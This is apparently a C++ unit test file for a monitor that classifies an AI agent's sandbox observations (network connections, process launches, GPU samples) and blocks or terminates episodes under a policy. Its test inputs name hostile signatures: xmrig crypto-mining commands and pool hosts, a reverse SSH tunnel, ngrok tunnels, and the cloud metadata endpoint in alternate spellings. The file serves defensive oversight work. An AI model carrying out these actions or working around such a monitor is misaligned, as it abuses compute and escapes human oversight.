#include "rewardguard/classify/observation.h"

#include <algorithm>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "rewardguard/eval/evaluator.h"

namespace rewardguard {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::Not;

std::vector<std::string> Capabilities(const FactList& facts) {
  std::vector<std::string> out;
  for (const Fact& f : facts) out.push_back(f.capability);
  return out;
}

FactList Parse(std::string_view line, ObservationInfo* info = nullptr) {
  FactList facts;
  ParseObservation(line, Limits{}, &facts, info);
  return facts;
}

TEST(Observation, OutboundSshConnection) {
  ObservationInfo info;
  FactList facts = Parse(R"({"type":"net.connect","host":"203.0.113.5","port":22,)"
                         R"("protocol":"tcp","direction":"outbound","env":3,"episode":9,"step":41})",
                         &info);
  ASSERT_EQ(facts.size(), 1u);
  EXPECT_EQ(facts[0].capability, "net.egress.ssh");
  EXPECT_EQ(facts[0].host, "203.0.113.5");
  EXPECT_EQ(facts[0].port, 22);
  EXPECT_EQ(info.type, "net.connect");
  EXPECT_EQ(info.env, 3);
  EXPECT_EQ(info.episode, 9);
  EXPECT_EQ(info.step, 41);
}

TEST(Observation, OtherPortsAndDirections) {
  EXPECT_EQ(Capabilities(Parse(R"({"type":"net.connect","host":"Example.COM","port":443})")),
            std::vector<std::string>{"net.egress"});
  EXPECT_EQ(Parse(R"({"type":"net.connect","host":"Example.COM","port":443})")[0].host,
            "example.com");
  EXPECT_EQ(Capabilities(Parse(
                R"({"type":"net.connect","host":"0.0.0.0","port":8080,"direction":"listen"})")),
            std::vector<std::string>{"net.listen"});
  EXPECT_EQ(Capabilities(Parse(
                R"({"type":"net.connect","host":"198.51.100.7","port":4444,"direction":"inbound"})")),
            std::vector<std::string>{"net.listen"});
  EXPECT_EQ(Capabilities(Parse(R"({"type":"net.connect","host":"169.254.169.254","port":80})")),
            (std::vector<std::string>{"net.egress", "net.metadata"}));
  // The destination signatures of shell commands and URL tools apply: the
  // metadata service in another spelling, pools by host and by port, tunnel
  // services; not to inbound connections, not to loopback ports.
  EXPECT_THAT(Capabilities(Parse(R"({"type":"net.connect","host":"169.254.169.254.","port":80})")),
              Contains("net.metadata"));
  EXPECT_THAT(Capabilities(Parse(R"({"type":"net.connect","host":"2852039166","port":80})")),
              Contains("net.metadata"));
  EXPECT_THAT(Capabilities(Parse(R"({"type":"net.connect","host":"pool.supportxmr.com","port":443})")),
              Contains("compute.mining"));
  EXPECT_THAT(Capabilities(Parse(R"({"type":"net.connect","host":"198.51.100.9","port":3333})")),
              Contains("compute.mining"));
  EXPECT_THAT(Capabilities(Parse(R"({"type":"net.connect","host":"abc.ngrok-free.app","port":443})")),
              Contains("net.tunnel"));
  EXPECT_EQ(Capabilities(Parse(R"({"type":"net.connect","host":"127.0.0.1","port":3333})")),
            std::vector<std::string>{"net.egress"});
  EXPECT_EQ(Capabilities(Parse(
                R"({"type":"net.connect","host":"198.51.100.9","port":3333,"direction":"inbound"})")),
            std::vector<std::string>{"net.listen"});
}

TEST(Observation, ProcessStartGoesThroughTheShellAnalyzer) {
  FactList facts = Parse(
      R"({"type":"process.start","argv":["xmrig","-o","stratum+tcp://pool.example:3333","--donate-level","1"]})");
  EXPECT_THAT(Capabilities(facts), Contains("compute.mining"));
  // Words with spaces and quotes stay single words.
  EXPECT_EQ(QuoteArgv({"echo", "a b", "it's", "plain-word_1.0"}),
            R"(echo 'a b' 'it'\''s' plain-word_1.0)");
  FactList tunnel = Parse(
      R"({"type":"process.start","argv":["ssh","-fNR","9000:localhost:22","a@203.0.113.5"]})");
  EXPECT_THAT(Capabilities(tunnel), Contains("net.tunnel"));
  // A semicolon inside an argv word is not a command separator.
  FactList quoted = Parse(R"({"type":"process.start","argv":["echo","x; xmrig"]})");
  EXPECT_THAT(Capabilities(quoted), Not(Contains("compute.mining")));
}

TEST(Observation, GpuSample) {
  FactList miner = Parse(
      R"({"type":"gpu.sample","device":0,"utilization":97,"process":"xmrig","pid":123})");
  EXPECT_THAT(Capabilities(miner), Contains("compute.gpu"));
  EXPECT_THAT(Capabilities(miner), Contains("compute.mining"));
  EXPECT_THAT(miner[0].detail, HasSubstr("97% utilization"));
  EXPECT_EQ(miner[0].program, "xmrig");
  FactList python = Parse(R"({"type":"gpu.sample","device":1,"utilization":40,"process":"python3"})");
  EXPECT_EQ(Capabilities(python), std::vector<std::string>{"compute.gpu"});
  FactList path = Parse(R"({"type":"gpu.sample","process":"/tmp/.x/xmrig"})");
  EXPECT_THAT(Capabilities(path), Contains("compute.mining"));
}

TEST(Observation, MalformedLinesFailClosed) {
  const char* bad[] = {
      "not json",
      "[1,2]",
      R"({"host":"x"})",
      R"({"type":"net.teleport"})",
      R"({"type":"net.connect"})",
      R"({"type":"net.connect","host":"x","port":"22"})",
      R"({"type":"net.connect","host":"x","port":70000})",
      R"({"type":"net.connect","host":"x","direction":"sideways"})",
      R"({"type":"process.start","argv":[]})",
      R"({"type":"process.start","argv":"xmrig"})",
      R"({"type":"process.start","argv":["xmrig",3]})",
      R"({"type":"gpu.sample","utilization":"high"})",
      R"({"type":"gpu.sample","env":"three"})",
  };
  for (const char* line : bad) {
    FactList facts = Parse(line);
    ASSERT_EQ(facts.size(), 1u) << line;
    EXPECT_EQ(facts[0].capability, "tool.malformed") << line;
    EXPECT_THAT(facts[0].detail, HasSubstr("sandbox observation")) << line;
  }
  Limits tiny;
  tiny.max_argument_bytes = 10;
  FactList facts;
  ParseObservation(R"({"type":"net.connect","host":"x"})", tiny, &facts);
  ASSERT_EQ(facts.size(), 1u);
  EXPECT_EQ(facts[0].capability, "limit.exceeded");
}

// The point of observations: a connection the shell analysis never saw is
// still judged, with the same rules as tool calls.
TEST(Observation, JudgedByTheSamePolicy) {
  Evaluator evaluator(*LoadBuiltinPolicy("coding-sandbox"), 1);
  Verdict v;
  evaluator.EvaluateObservationLine(0, R"({"type":"net.connect","host":"203.0.113.5","port":22})", &v);
  EXPECT_GE(v.action, Action::kBlock);
  EXPECT_GT(v.penalty, 0.0f);
  evaluator.EvaluateObservationLine(
      0, R"({"type":"gpu.sample","device":0,"utilization":99,"process":"xmrig"})", &v);
  EXPECT_EQ(v.action, Action::kTerminate);
  EXPECT_THAT(std::vector<std::string>(v.rules.begin(), v.rules.end()), Contains("crypto-mining"));
  evaluator.EvaluateObservationLine(0, R"({"type":"net.connect","host":"169.254.169.254","port":80})",
                                    &v);
  EXPECT_THAT(std::vector<std::string>(v.rules.begin(), v.rules.end()), Contains("cloud-metadata"));
  evaluator.EvaluateObservationLine(0, "{oops", &v);
  EXPECT_GE(v.action, Action::kBlock);
  // The same observations held as values judge the same.
  Verdict line, value;
  evaluator.EvaluateObservationLine(0, R"({"type":"net.connect","host":"203.0.113.5","port":443})",
                                    &line);
  evaluator.Evaluate(0, Event(Connection{"203.0.113.5", 443}), &value);
  EXPECT_EQ(value.action, line.action);
  EXPECT_EQ(value.rules, line.rules);
  evaluator.Evaluate(0, Event(GpuSample{0, 99, "xmrig", -1}), &value);
  EXPECT_EQ(value.action, Action::kTerminate);
}

}  // namespace
}  // namespace rewardguard
